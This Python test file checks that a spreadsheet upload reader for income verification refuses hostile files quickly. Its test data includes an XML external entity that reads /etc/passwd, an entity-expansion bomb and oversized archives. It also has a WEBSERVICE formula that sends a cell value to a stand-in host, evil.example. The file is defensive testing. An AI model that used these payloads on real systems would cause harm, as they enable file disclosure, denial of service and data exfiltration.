"""A sheet handed in by the verifier may be anything: read, or refused with a sentence; it never harms."""

import io
import time
import zipfile

import pytest
import xlsxwriter
from tests.support.sheets import xlsx_of

from yimen.domains.verification.errors import LineInvalidError
from yimen.domains.verification.rules import HEADINGS, read_result
from yimen.domains.verification.types import Verified
from yimen.foundation.models import make_id
from yimen.foundation.spreadsheets import Column, write_xlsx
from yimen.foundation.spreadsheets.errors import SheetNotAcceptedError
from yimen.foundation.spreadsheets.reading import MOST_ROWS, read_sheet
from yimen.kernel import YimenError

LI = Verified(make_id(), "李建明")
GOOD: list[object] = ["李建明", "工资性收入", "900.50", "社会保险", "2026-03-01"]
SHEET = "xl/worksheets/sheet1.xml"


def changed(**parts: bytes) -> bytes:
    """A good workbook with some of its parts replaced (or added)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx_of(GOOD))) as given,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made,
    ):
        for name in given.namelist():
            made.writestr(name, parts.pop(name) if name in parts else given.read(name))
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def part(name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(xlsx_of(GOOD))) as book:
        return book.read(name)


def with_sheet(before: bytes, after: bytes) -> bytes:
    assert before in part(SHEET)
    return changed(**{SHEET: part(SHEET).replace(before, after, 1)})


ENTITY = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet>'
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><worksheet>'

EMPTY = b"PK\x05\x06" + bytes(18)
WHOLE = xlsx_of(GOOD)
HOSTILE = {
    "a damaged stream": WHOLE[:60] + bytes(40) + WHOLE[100:],
    "a cell at the far corner": with_sheet(b'r="E2"', b'r="XFD1048576"'),
    "a row far below": with_sheet(b'<row r="2"', b'<row r="1048576"'),
    "an entity of the machine": with_sheet(b"<worksheet ", ENTITY + b"<worksheet "),
    "an entity that multiplies": with_sheet(b"<worksheet ", LAUGHS + b"<worksheet "),
    "a gigabyte of nothing": changed(**{"xl/sharedStrings.xml": b"<sst>" + b" " * 60_000_000 + b"</sst>"}),
    "many parts": changed(**{f"xl/worksheets/sheet{n}.xml": b"<a/>" for n in range(2, 300)}),
    "a broken sheet": changed(**{SHEET: b"<worksheet><row>"}),
    "an archive that is no workbook": EMPTY,
    "half a workbook": xlsx_of(GOOD)[:700],
    "letters without a meaning": b"PK\x03\x04" + bytes(range(256)) * 4,
    "a picture": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    "a text with a NUL": "姓名,类别,金额,来源,日期\n李建明,wage,1,社\x00保,2026-03-01".encode(),
    "too many rows": "\n".join([",".join(HEADINGS), *[",".join(map(str, GOOD))] * MOST_ROWS]).encode(),
    "too many columns": ("," * 500).encode(),
    "six megabytes": b"a" * 6_000_000,
    "one endless cell": b'"' + b"a" * 4_000_000,
}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_sheet_is_refused_quickly_with_a_sentence(content):
    begun = time.monotonic()
    with pytest.raises((SheetNotAcceptedError, LineInvalidError)) as refused:
        read_result(content, [LI])
    assert isinstance(refused.value, YimenError) and refused.value.message.endswith(("。", "上传。"))
    assert time.monotonic() - begun < 5


@pytest.mark.parametrize(
    "row",
    [
        ["李建明", "wage", "1E+999999", "社保", "2026-03-01"],
        ["李建明", "wage", "9" * 40, "社保", "2026-03-01"],
        ["李建明", "wage", "NaN", "社保", "2026-03-01"],
        ["李建明", "wage", "sNaN", "社保", "2026-03-01"],
        ["李建明", "wage", "Infinity", "社保", "2026-03-01"],
        ["李建明", "wage", "1", "长" * 61, "2026-03-01"],
        ["李建明", "wage", "1", "社\u202e保", "2026-03-01"],
        ["李建明", "wage", "1", "社保", "99999-01-01"],
        ["<script>", "wage", "1", "社保", "2026-03-01"],
    ],
)
def test_a_row_that_cannot_be_kept_is_refused_by_its_number(row):
    with pytest.raises(LineInvalidError, match="第2行"):
        read_result("\n".join([",".join(HEADINGS), ",".join(row)]).encode(), [LI])


def test_a_formula_counts_as_the_value_it_was_saved_with_and_is_never_run():
    file = io.BytesIO()
    with xlsxwriter.Workbook(file) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, HEADINGS)
        sheet.write_row(1, 0, GOOD[:2])
        sheet.write_formula(1, 2, '=WEBSERVICE("http://evil.example/"&A2)', None, 12)
        sheet.write_row(1, 3, GOOD[3:])
    (line,) = read_result(file.getvalue(), [LI])
    assert line.amount.fen == 1200


def test_macros_and_pictures_of_a_workbook_are_left_behind():
    content = changed(**{"xl/vbaProject.bin": b"MZ", "xl/media/a.png": b"\x89PNG"})
    assert len(read_result(content, [LI])) == 1


def test_our_own_sheets_are_read_back():
    with write_xlsx([Column(title) for title in HEADINGS], [GOOD]) as file:
        assert list(read_sheet(file.read())[1]) == GOOD
